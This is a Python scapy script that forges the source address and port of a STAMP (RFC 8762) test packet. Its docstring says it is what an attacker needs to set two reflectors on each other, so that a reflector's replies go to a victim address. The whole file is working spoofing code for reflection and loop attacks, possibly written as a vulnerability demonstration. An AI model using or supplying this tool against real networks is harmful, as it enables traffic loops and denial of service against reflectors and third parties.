#!/usr/bin/env python3
"""Send one STAMP test packet (RFC 8762 §4.2.1, open, 44 octets) from a
forged source address and port, with scapy.

Usage: spoof.py SRC SPORT DST DPORT [SIZE]
SIZE: the datagram's bytes (default 44; more: zero padding, as a padded
TWAMP-Light or STAMP request has). IPv6 addresses send over IPv6.
What an attacker needs to set two reflectors on each other: the packet
reaches DST:DPORT as if SRC:SPORT had sent it, so DST's reply goes to SRC.
Prints "sent 1".
"""
import struct
import sys
import time

from scapy.all import IP, IPv6, UDP, Raw, conf, send

NTP_EPOCH = 2208988800


def stamp_request(seq):
    ns = time.time_ns()
    frac = ((ns % 10**9) << 32) // 10**9
    # seq, NTP timestamp, error estimate (S=1, scale 0, multiplier 1), MBZ
    return struct.pack('!IIIH', seq, ns // 10**9 + NTP_EPOCH, frac, 0x8001) + bytes(30)


def main():
    if len(sys.argv) not in (5, 6):
        sys.exit(__doc__)
    src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    size = int(sys.argv[5]) if len(sys.argv) == 6 else 44
    conf.verb = 0
    ip = IPv6(src=src, dst=dst) if ':' in dst else IP(src=src, dst=dst)
    req = stamp_request(1)
    send(ip / UDP(sport=sport, dport=dport) / Raw(req + bytes(max(size - len(req), 0))))
    print('sent 1')


if __name__ == '__main__':
    main()
